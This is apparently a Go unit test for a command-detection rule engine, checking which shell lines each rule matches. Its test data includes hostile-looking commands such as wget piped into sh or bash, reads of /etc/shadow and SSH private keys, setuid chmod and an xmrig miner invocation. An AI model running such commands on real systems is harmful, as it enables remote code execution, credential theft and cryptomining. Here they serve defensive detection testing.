package engine

import (
	"testing"

	"ttpctl/internal/event"
)

// TestCommandAndEffectBlocks tries blocks on lines that they hold on, and on
// lines that look alike.
func TestCommandAndEffectBlocks(t *testing.T) {
	tests := []struct {
		match     string
		yes, none []string
	}{
		{"  effect: {writes: {path: /tmp/x, how: create}}", []string{"wget -O /tmp/x http://192.0.2.1/"}, []string{"cat /tmp/x", "echo wget -O /tmp/x http://192.0.2.1/"}},
		{"  effect: {fetches: {host: [remote, unknown]}}", []string{"wget http://192.0.2.1/", "/bin/./wget http://$H/x"}, []string{"wget http://127.0.0.1/", "wget --spider http://192.0.2.1/"}},
		{"  effect: {fetches: {host: 192.0.2.1, to: file}}", []string{"wget http://192.0.2.1/x"}, []string{"wget -O - http://192.0.2.1/x", "wget http://192.0.2.2/x"}},
		{"  effect: {fetches: {host: any, to: '-'}}", []string{"wget -qO- http://192.0.2.1/x"}, []string{"wget http://192.0.2.1/x"}},
		{"  effect: {fetches: {host: remote, except: '*.good.test'}}", []string{"wget http://bad.test/"}, []string{"wget http://a.good.test/"}},
		{"  effect: {fetches: {url: {pattern: '/bins?/'}, port: [80, 8080]}}", []string{"wget http://h.test:8080/bin/x"}, []string{"wget http://h.test:81/bin/x"}},
		{"  effect: {mode: {how: [executable, setid]}}", []string{"chmod +x f", "chmod 4755 f"}, []string{"chmod -x f"}},
		{"  effect: {reads: /etc/shadow}", []string{"cat /etc/shadow", "cat /etc//./shadow", "cat /etc/sh*ow"}, []string{"cat '/etc/sh*ow'", "cat shadow"}},
		{"  effect: {reads: '~/.ssh/**'}", []string{"cat /root/.ssh/id_rsa", "cat ~/.ssh/id_rsa", "cat /home/a/.ssh/x"}, []string{"cat /srv/.ssh/x"}},
		{"  command: {program: wget, no_option: [-O]}", []string{"wget x", "sudo wget x"}, []string{"wget --output-document=x u", "wget -qO x u", "curl x"}},
		{"  command: {program: wget, option: {-O: '/tmp/**'}}", []string{"wget -O /tmp/a/b u", "wget --output-document /tmp/b u"}, []string{"wget -O /srv/b u", "wget /tmp/b"}},
		{"  command: {program: '@fetcher', operands: {min: 1, max: 1}}", []string{"wget a"}, []string{"wget", "wget a b", "cat a"}},
		{"  command: {program: ['xmrig!', nmap!]}", []string{"xmrig -o x", "nmap h"}, []string{"rig"}},
		{"  command: {path: '/tmp/**', argument: {pattern: '(?i)stratum'}}", []string{"/tmp/a -o STRATUM+tcp://h"}, []string{"/tmp/a", "a -o stratum"}},
		{"  command: {program: cat, no_operand: '*.html', operand: '/srv/*'}", []string{"cat /srv/a"}, []string{"cat /srv/a.html", "cat /srv/a /x.html"}},
		{"  command: {program: cat, effect: {reads: any}}", []string{"cat f"}, []string{"cat", "wget -i f"}},
		{"  command: {program: gcc, option: [-fzz]}", []string{"gcc -fzz a.c"}, []string{"gcc a.c"}}, // a row that does not tell all options
		{"  command: {program: wget, no_effect: {fetches: {host: remote}}}", []string{"wget http://localhost/"}, []string{"wget http://192.0.2.1/"}},
		{"  command: {program: wget, output_to: {program: ['sh!', 'bash!']}}", []string{"wget -O- u | tee x | sh", "wget -qO- u | bash"}, []string{"wget u; sh", "sh | wget u"}},
		{"  command: {program: 'sh!', input_from: {program: '@fetcher'}}", []string{"wget -O- u | sh"}, []string{"wget u && sh"}},
		{"  all_of:\n    - {effect: {mode: {how: executable}}}\n    - {none_of: [{command: {program: wget}}]}", []string{"chmod +x a"}, []string{"wget u; chmod +x a"}},
	}
	for _, tt := range tests {
		rs := compileRule(t, "command", tt.match)
		snap := NewSnapshot(rs, nil, testNow)
		if len(rs.indexOf(event.KindCommand).always) > 0 {
			t.Errorf("%s: runs on every line", tt.match)
		}
		for _, line := range tt.yes {
			if len(snap.Evaluate(nil, commandEvent(line), testNow, NewScratch())) == 0 {
				t.Errorf("%s\n\tdoes not hold on %s", tt.match, line)
			}
		}
		for _, line := range tt.none {
			if len(snap.Evaluate(nil, commandEvent(line), testNow, NewScratch())) > 0 {
				t.Errorf("%s\n\tholds on %s", tt.match, line)
			}
		}
	}
}

// TestBlocksAllocateNothing: lines that no rule matches, and those that the
// index admits, cost no memory.
func TestBlocksAllocateNothing(t *testing.T) {
	snap := NewSnapshot(mustCompile(t, generatedLineRules(200)), nil, testNow)
	sc := NewScratch()
	for _, line := range []string{"id", "wget -O /tmp/x http://192.0.2.1/x; chmod 777 /tmp/x", "cat /etc/passwd | grep x > f", "cd /tmp && rm -rf ~/.x"} {
		ev := commandEvent(line)
		snap.Evaluate(nil, ev, testNow, sc)
		if n := testing.AllocsPerRun(100, func() { snap.Evaluate(nil, ev, testNow, sc) }); n > 0 {
			t.Errorf("%s: %v allocations", line, n)
		}
	}
}
